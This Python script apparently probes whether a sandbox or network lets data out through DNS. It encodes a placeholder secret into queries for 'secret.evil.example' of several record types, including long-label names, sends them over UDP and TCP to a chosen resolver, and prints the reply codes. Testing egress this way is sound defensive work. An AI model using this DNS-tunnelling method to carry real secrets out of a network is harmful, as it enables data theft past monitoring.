"""Carries a secret in questions to a resolver of its own choice: dns.py FAMILY ADDRESS."""

import json
import socket
import struct
import sys

from tried import FAMILIES, PATIENCE, destination, tried

A, NULL, TXT, AAAA, HTTPS = 1, 10, 16, 28, 65
CODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}
SECRET = "secret" + "x" * 57
QUESTIONS = {
    "A": ("secret.evil.example", A),
    "AAAA": ("secret.evil.example", AAAA),
    "TXT": ("secret.evil.example", TXT),
    "NULL": ("secret.evil.example", NULL),
    "HTTPS": ("secret.evil.example", HTTPS),
    "long labels": (".".join([SECRET, SECRET, SECRET, "evil.example"]), TXT),
}


def question(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return b"\x12\x34\x01\x00\x00\x01" + bytes(6) + labels + b"\0" + struct.pack("!HH", kind, 1)


def udp(family, to, message):
    with socket.socket(FAMILIES[family], socket.SOCK_DGRAM) as datagrams:
        datagrams.settimeout(PATIENCE)
        datagrams.connect(to)
        datagrams.send(message)
        return code(datagrams.recv(4096))


def tcp(family, to, message):
    with socket.socket(FAMILIES[family], socket.SOCK_STREAM) as connection:
        connection.settimeout(PATIENCE)
        connection.connect(to)
        connection.sendall(struct.pack("!H", len(message)) + message)
        return code(connection.recv(4096)[2:])


def code(message):
    return CODES.get(message[3] & 15, "?") if len(message) > 3 else "nothing"


family, address = sys.argv[1:]
to = destination(family, address, 53)
seen = {}
for label, (name, kind) in QUESTIONS.items():
    seen[label] = tried(udp, family, to, question(name, kind))
    seen[f"{label}, tcp"] = tried(tcp, family, to, question(name, kind))
print(json.dumps(seen))
